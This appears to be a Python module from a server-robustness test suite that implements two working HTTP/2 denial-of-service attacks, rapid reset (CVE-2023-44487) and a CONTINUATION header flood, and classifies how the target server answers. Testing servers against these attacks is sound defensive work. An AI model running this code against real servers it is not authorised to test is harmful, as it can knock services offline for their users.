"""HTTP/2 abuse at test scale: rapid reset (CVE-2023-44487) and a CONTINUATION flood.

Rapid reset opens ``h2_streams`` streams with the ``h2`` library, cancelling each at once
(RST_STREAM right after HEADERS), so a server that starts work per stream does it for
nothing. The CONTINUATION flood sends one HEADERS frame without END_HEADERS followed by
``h2_continuation_frames`` CONTINUATION frames of new header fields (VU#421644): a server
must cap the header block (GOAWAY, RST_STREAM, 431 or a close), not buffer it.
Against an HTTP/1.1 server the preface itself is bad input, answered with a 4xx or a close.
"""

from __future__ import annotations

import select
import socket
from typing import Any

from faultlab.suites.hostile._net import HELD, peer_gone, send_all
from faultlab.suites.hostile.base import Attack, AttackContext, AttackReport

__all__ = ["H2_CONTINUATION", "H2_RAPID_RESET"]

BATCH = 50


def _connection() -> Any:
    import h2.config
    import h2.connection

    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    return conn


def _headers(ctx: AttackContext) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", ctx.wire.path if ctx.wire.kind == "h2" else "/"),
        (":authority", ctx.wire.host),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _server_said(sock: socket.socket, conn: Any) -> str | None:
    """Read what the server sent so far: ``goaway``, ``http_<status>`` (an HTTP/1 server),
    ``close``/``reset``, or ``None`` if it is still talking HTTP/2 happily."""
    import h2.events
    import h2.exceptions

    gone = peer_gone(sock)
    if gone is None:
        return None
    sock.settimeout(0.5)
    try:
        data = sock.recv(65536)
    except OSError:
        return "reset"
    if not data:
        return "close"
    if data.startswith(b"HTTP/"):
        return read_answer_from(data)
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return _raw_answer(data)
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            return "goaway"
    return None


def _raw_answer(data: bytes) -> str:
    """What the server's frames say, read raw (our own h2 state cannot follow the frames we
    forged): ``goaway``, ``rst_stream``, else ``answered``."""
    from faultlab.codecs.framing.h2 import GOAWAY, RST_STREAM

    types, at = set(), 0
    while at + 9 <= len(data):
        size = int.from_bytes(data[at : at + 3], "big")
        types.add(data[at + 3])
        at += 9 + size
    if GOAWAY in types:
        return "goaway"
    return "rst_stream" if RST_STREAM in types else "answered"


def read_answer_from(data: bytes) -> str:
    parts = data.split(b"\r\n", 1)[0].split(b" ")
    return f"http_{int(parts[1])}" if len(parts) > 1 and parts[1].isdigit() else "answered"


def _rapid_reset(ctx: AttackContext) -> AttackReport:
    report = AttackReport()
    with ctx.sockets() as socks:
        try:
            sock = socks.connect()
        except OSError as exc:
            report.answer("refused", type(exc).__name__)
            return report
        conn = _connection()
        send_all(sock, conn.data_to_send(), ctx.limits.connect_timeout)
        answer: str | None = None
        opened = 0
        while opened < ctx.limits.h2_streams and answer is None and not ctx.over():
            for _ in range(min(BATCH, ctx.limits.h2_streams - opened)):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, _headers(ctx))
                conn.reset_stream(stream)
                opened += 1
            if (
                stopped := send_all(sock, conn.data_to_send(), ctx.limits.answer_timeout)
            ) is not None:
                answer = stopped
                break
            answer = _server_said(sock, conn)
        report.counts["streams_reset"] = opened
        if answer is None:
            ctx.wait(0.1)
            answer = _server_said(sock, conn) or HELD
        report.answer(answer, f"{opened} streams opened and reset")
    return report


def _continuation_flood(ctx: AttackContext) -> AttackReport:
    import hpack

    from faultlab.codecs.framing.h2 import CONTINUATION, END_HEADERS, HEADERS, encode_frame

    report = AttackReport()
    encoder = hpack.Encoder()
    with ctx.sockets() as socks:
        try:
            sock = socks.connect()
        except OSError as exc:
            report.answer("refused", type(exc).__name__)
            return report
        conn = _connection()
        first = encoder.encode(_headers(ctx))
        stopped = send_all(sock, conn.data_to_send() + encode_frame(HEADERS, 0, 1, first), 1.0)
        answer = stopped
        sent = 0
        while answer is None and sent < ctx.limits.h2_continuation_frames and not ctx.over():
            frames = b"".join(
                encode_frame(
                    CONTINUATION, 0, 1, encoder.encode([(f"x-flood-{sent + i}", "a" * 48)])
                )
                for i in range(min(BATCH, ctx.limits.h2_continuation_frames - sent))
            )
            answer = send_all(sock, frames, ctx.limits.answer_timeout)
            sent += BATCH
            answer = answer or _server_said(sock, conn)
        report.counts["continuation_frames"] = min(sent, ctx.limits.h2_continuation_frames)
        if answer is None:  # end the block: a server that buffered it all must now judge it
            send_all(sock, encode_frame(CONTINUATION, END_HEADERS, 1, b""), 1.0)
            answer = _h2_answer(sock, conn, ctx.limits.answer_timeout)
        report.answer(answer, f"{sent} CONTINUATION frames")
    return report


def _h2_answer(sock: socket.socket, conn: Any, timeout: float) -> str:
    """After the flood: a GOAWAY, RST_STREAM, a response, a close, or ``timeout``."""
    import h2.events
    import h2.exceptions

    readable, _, _ = select.select([sock], [], [], timeout)
    if not readable:
        return "timeout"
    sock.settimeout(0.5)
    try:
        data = sock.recv(65536)
    except OSError:
        return "reset"
    if not data:
        return "close"
    if data.startswith(b"HTTP/"):
        return read_answer_from(data)
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return _raw_answer(data)
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            return "goaway"
        if isinstance(event, h2.events.StreamReset):
            return "rst_stream"
        if isinstance(event, h2.events.ResponseReceived):
            for name, value in event.headers:
                if name in (":status", b":status"):
                    text = value.decode() if isinstance(value, bytes) else str(value)
                    return f"http_{text}"
            return "answered"
    return "answered"


H2_RAPID_RESET = Attack("h2_rapid_reset", False, _rapid_reset, __doc__ or "")
H2_CONTINUATION = Attack("h2_continuation", True, _continuation_flood, __doc__ or "")
